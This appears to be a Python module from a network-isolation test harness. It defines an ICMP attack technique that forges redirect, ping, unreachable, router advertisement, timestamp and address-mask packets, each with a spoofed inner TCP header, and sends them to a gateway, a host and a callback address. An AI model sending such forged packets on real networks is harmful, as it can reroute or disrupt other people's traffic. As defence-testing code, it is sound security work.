"""Messages of control change routes and sizes."""

import socket
import struct
from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Send redirects, pings, unreachables with a forged inside, and address mask requests.",
    claim="G3",
    defences=("edge filter and source check",),
    stopped_by=("guest_icmp",),
    policies=BOTH,
    variants={
        "redirect": [5, 1],
        "ping": [8, 0],
        "too big": [3, 4],
        "unreachable": [3, 3],
        "router advertisement": [9, 0],
        "time stamp": [13, 0],
        "mask": [17, 0],
    },
)


def attack(case: Case, what: Any) -> None:
    ground = case.ground

    kind, code = what
    inner = inside.tcp(ground.callback_at, 443, source=ground.host_at)
    body = bytes([kind, code]) + b"\0\0" + socket.inet_aton("10.0.0.2") + inner[:28]
    body = body[:2] + struct.pack("!H", inside.checksum(body)) + body[4:]
    for to in (ground.gateway, ground.host_at, ground.callback_at):
        case.frames(inside.ether(inside.ipv4(body, to=to, protocol=1)))
